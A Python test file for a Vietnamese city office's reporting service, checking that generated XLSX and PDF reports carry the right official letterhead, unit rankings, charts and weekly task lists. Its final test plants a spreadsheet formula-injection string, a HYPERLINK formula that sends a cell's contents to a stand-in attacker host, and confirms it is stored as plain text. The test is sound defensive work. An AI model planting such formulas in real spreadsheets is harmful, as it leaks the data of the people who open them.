"""The report files made from a figures snapshot: the XLSX opened with openpyxl, the PDF read back page by
page. No database."""

import io
from datetime import datetime, timedelta, timezone

from openpyxl import load_workbook
from pdf_text import page_count, squeezed, text

from services.reporting import documents
from services.reporting.domain.cadence import report_period, trend_windows
from services.reporting.domain.letterhead import letterhead
from services.reporting.domain.report_contents import (
    TaskLine,
    summary,
    task_rows,
    tasks_by_unit,
    trend_point,
    units_with_late_dossiers,
)
from services.reporting.domain.texts import MONDAY_LIST_NOTES, issuer_name

HANOI = timezone(timedelta(hours=7))

ITEMS = [
    {"unit": "SXD", "unit_name": "Sở Xây dựng", "kind_label": "Sở, ban, ngành", "rank": 1, "previous_rank": 2,
     "score": 19.5, "received": 40, "early": 10, "on_time": 39, "late": 1, "overdue_open": 0, "on_time_rate": 0.975},
    {"unit": "STP", "unit_name": "Sở Tư pháp", "kind_label": "Sở, ban, ngành", "rank": 2, "previous_rank": None,
     "score": 15.0, "received": 20, "early": 3, "on_time": 15, "late": 3, "overdue_open": 2, "on_time_rate": 0.75},
    {"unit": "PBD", "unit_name": "Phường Ba Đình", "kind_label": "Phường", "rank": 3, "previous_rank": 1,
     "score": 12.0, "received": 10, "early": 0, "on_time": 6, "late": 0, "overdue_open": 4, "on_time_rate": 0.6},
]


def monthly_snapshot(items=ITEMS):
    period = report_period("monthly", "2026-11")
    return {
        "code": period.code, "kind": "monthly", "period": period.label, "version": 2, "title": period.title_vi,
        "title_en": period.title_en, "issuer": issuer_name("Thành phố Hà Nội"),
        "window": {"first_day": "2026-10-21", "last_day": "2026-11-20", "text": period.window_vi},
        "as_of": "2026-11-21T00:00:00+07:00", "issued_at": "2026-11-25T08:00:00+07:00", "issued_by": "sweep",
        "reason": "bổ sung số liệu Sở Tư pháp",
        "ranking": {"items": items, "units_not_ranked": 1,
                    "formula": {"version": "Quyết định 766/QĐ-TTg ngày 23/6/2022",
                                "vi": "Điểm tiến độ = 20 × (số hồ sơ đúng hạn) ÷ (tổng số hồ sơ).",
                                "not_measured_vi": "Chưa đo: số hóa hồ sơ (22)."}},
        "summary": summary(items),
        "late_units": units_with_late_dossiers(items),
        "trend": [trend_point(window, *((70, 60) if window.label >= "2026-09" and items else (0, 0)))
                  for window in trend_windows(period)],
        "notes": [{"code": "supplement", "vi": "Thời gian chờ công dân bổ sung hồ sơ chưa được trừ.", "en": "…"}],
        "number": 7,
        "letterhead": {**letterhead("Thành phố Hà Nội", 7, datetime(2026, 11, 25).date()).as_dict(),
                       "document_kind": period.document_kind_vi, "subject": period.subject_vi},
    }


def weekly_snapshot():
    period = report_period("weekly_tasks", "2026-W47")
    tz = HANOI
    tasks = [
        TaskLine("NV-1", "SXD", datetime(2026, 11, 10, 17, tzinfo=tz), None, None),
        TaskLine("NV-2", "SXD", datetime(2026, 11, 19, 17, tzinfo=tz), None, None),
        TaskLine("NV-3", "STP", datetime(2026, 11, 13, 17, tzinfo=tz), None,
                 datetime(2026, 11, 12, 9, tzinfo=tz)),  # reported within 7 days: not listed
        TaskLine("NV-4", "STP", datetime(2026, 11, 23, 8, tzinfo=tz), None, None),  # next week
        TaskLine("NV-5", "STP", datetime(2026, 11, 2, 17, tzinfo=tz), None, None),
    ]
    titles = {"NV-1": {"title": "Báo cáo kết quả thực hiện Chỉ thị 01/CT-UBND", "document": "01/CT-UBND"}}
    names = {"SXD": "Sở Xây dựng", "STP": "Sở Tư pháp"}
    rows = task_rows(tasks, titles, names, period, tz)
    by_unit = tasks_by_unit(rows)
    return {
        "code": period.code, "kind": "weekly_tasks", "period": period.label, "version": 1, "title": period.title_vi,
        "issuer": issuer_name(None), "window": {"text": period.window_vi},
        "as_of": "2026-11-16T00:00:00+07:00", "issued_at": "2026-11-16T07:00:00+07:00", "issued_by": "sweep",
        "reason": None, "tasks": rows, "tasks_by_unit": by_unit,
        "task_summary": {"total": len(rows), "overdue": sum(r["status"] == "overdue" for r in rows),
                         "due_this_week": sum(r["status"] == "due_this_week" for r in rows), "units": len(by_unit)},
        "notes": MONDAY_LIST_NOTES,
    }


# --------------------------------------------------------------------------- the files


def test_reporting_monthly_xlsx_has_the_vietnamese_headings_the_ranking_figures_and_native_charts():
    workbook = load_workbook(io.BytesIO(documents.build_xlsx(monthly_snapshot())))
    assert workbook.sheetnames == ["Báo cáo", "Đơn vị trễ hạn", "Xu hướng", "Cách tính và lưu ý"]
    sheet = workbook["Báo cáo"]
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    values = [value for row in cells for value in row if value is not None]
    assert values[:6] == ["UBND THÀNH PHỐ HÀ NỘI", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "VĂN PHÒNG",
                          "Độc lập - Tự do - Hạnh phúc", "Số: 07/BC-VP", "Hà Nội, ngày 25 tháng 11 năm 2026"]
    # The ranking's header row stays in view and prints on every page; every column filters; A4 landscape.
    header = next(i for i, row in enumerate(cells, start=1) if row[0] == "Hạng")
    assert sheet.freeze_panes == f"A{header + 1}"
    assert sheet.auto_filter.ref == f"A{header}:L{header + 3}"
    assert sheet.print_title_rows == f"${header}:${header}"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) == \
        ("landscape", int(sheet.PAPERSIZE_A4), 1)
    assert {"CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"} <= set(values)
    assert ("BÁO CÁO KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH VÀ THỰC HIỆN KỶ LUẬT, KỶ CƯƠNG HÀNH CHÍNH "
            "THÁNG 11 NĂM 2026") in values
    assert any("phiên bản 2" in str(v) and "bổ sung số liệu Sở Tư pháp" in str(v) for v in values)
    header = next(i for i, row in enumerate(cells) if row[0] == "Hạng")
    assert cells[header][:3] == ["Hạng", "Mã đơn vị", "Tên đơn vị"]
    assert "Điểm tiến độ (766, tối đa 20)" in cells[header]
    score = cells[header].index("Điểm tiến độ (766, tối đa 20)")
    rate = cells[header].index("Tỷ lệ đúng hạn")
    table = cells[header + 1:header + 4]
    assert [(row[0], row[2], row[score], row[rate]) for row in table] == [
        (1, "Sở Xây dựng", 19.5, 0.975), (2, "Sở Tư pháp", 15.0, 0.75), (3, "Phường Ba Đình", 12.0, 0.6)]
    summary = {row[0]: row[3] for row in cells if row[0] in dict(documents.SUMMARY_ROWS).values()}
    assert summary["Tổng số hồ sơ trong kỳ"] == 70 and summary["Tỷ lệ đúng hạn"] == 0.8571
    [bar] = sheet._charts
    assert type(bar).__name__ == "BarChart"
    assert bar.title.tx.rich.p[0].r[0].t == documents.RANKING_TITLE
    [line] = workbook["Xu hướng"]._charts
    assert type(line).__name__ == "LineChart"
    trend = [[c.value for c in row] for row in workbook["Xu hướng"].iter_rows(min_row=4, max_row=9)]
    assert [row[1] for row in trend] == ["T6/2026", "T7/2026", "T8/2026", "T9/2026", "T10/2026", "T11/2026"]
    assert [row[4] for row in trend] == [None, None, None, 0.8571, 0.8571, 0.8571]
    late = [[c.value for c in row] for row in workbook["Đơn vị trễ hạn"].iter_rows(min_row=4)]
    assert [row[1] for row in late] == ["STP", "PBD", "SXD"]


def test_reporting_monthly_pdf_is_a_paged_pdf_with_the_vietnamese_headings_and_numbers():
    report = monthly_snapshot()
    pdf = documents.build_pdf(report)
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert page_count(pdf) >= 2
    content = squeezed(text(pdf))
    for expected in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                     # Decree 30/2020's layout: parent body, issuing body, number and symbol, place and date,
                     # recipients and the signer's authority and title.
                     "UBND THÀNH PHỐ HÀ NỘI VĂN PHÒNG Số: 07/BC-VP", "Hà Nội, ngày 25 tháng 11 năm 2026",
                     "BÁO CÁO Kết quả giải quyết thủ tục hành chính và thực hiện kỷ luật, kỷ cương hành chính "
                     "tháng 11 năm 2026", "Nơi nhận:", "- Lưu: VT.", "KT. CHÁNH VĂN PHÒNG",
                     "PHÓ CHÁNH VĂN PHÒNG",
                     "từ ngày 21/10/2026 đến hết ngày 20/11/2026", "phiên bản 2", "BẢNG XẾP HẠNG ĐƠN VỊ",
                     "Sở Xây dựng", "Phường Ba Đình", "97,50%", "19,50", "85,71%", "Trang 1/",
                     "Chưa đo: số hóa hồ sơ (22)."):
        assert squeezed(expected) in content, expected
    html = documents.render_html(report)
    assert html.count('<svg ') == 2  # in the page, so drawn in the document's font
    assert "Biểu đồ 1: Tỷ lệ hồ sơ đúng hạn qua các kỳ báo cáo tháng" in html


def test_reporting_a_report_without_ranked_units_still_opens_and_says_so():
    report = monthly_snapshot(items=[])
    workbook = load_workbook(io.BytesIO(documents.build_xlsx(report)))
    values = [c.value for row in workbook["Báo cáo"].iter_rows() for c in row if c.value is not None]
    assert "Không có đơn vị nào có hồ sơ trong kỳ." in values
    assert squeezed("Không có đơn vị nào có hồ sơ trong kỳ.") in squeezed(text(documents.build_pdf(report)))


def test_reporting_monday_list_files_list_the_tasks_with_a_chart_per_unit():
    report = weekly_snapshot()
    workbook = load_workbook(io.BytesIO(documents.build_xlsx(report)))
    sheet = workbook["Danh sách nhiệm vụ"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header = next(i for i, row in enumerate(rows) if row[0] == "STT")
    assert [(r[1], r[4], r[6], r[7]) for r in rows[header + 1:header + 4]] == [
        ("NV-5", "Sở Tư pháp", "Quá hạn", 14), ("NV-1", "Sở Xây dựng", "Quá hạn", 6),
        ("NV-2", "Sở Xây dựng", "Đến hạn trong tuần", 0)]
    [chart] = workbook["Theo đơn vị"]._charts
    assert chart.title.tx.rich.p[0].r[0].t == documents.TASKS_CHART_TITLE
    content = squeezed(text(documents.build_pdf(report)))
    for expected in (report["title"], "Báo cáo kết quả thực hiện Chỉ thị 01/CT-UBND", "Quá hạn", "NV-5",
                     "17:00 ngày 10/11/2026"):
        assert squeezed(expected) in content, expected
    assert "NV-3" not in content and "NV-4" not in content


def test_reporting_xlsx_never_holds_a_formula_and_survives_control_characters():
    """A unit's name is typed by people: "=HYPERLINK(…)" stays text, and a stray control character does not
    make the report impossible to write."""
    snapshot = monthly_snapshot()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    snapshot["ranking"]["items"][0]["unit_name"] = hostile
    snapshot["title"] = snapshot["title"] + "\u0006"
    workbook = load_workbook(io.BytesIO(documents.build_xlsx(snapshot)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == hostile and cell.data_type == "s" for cell in cells)
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and "\u0006" in cell.value]
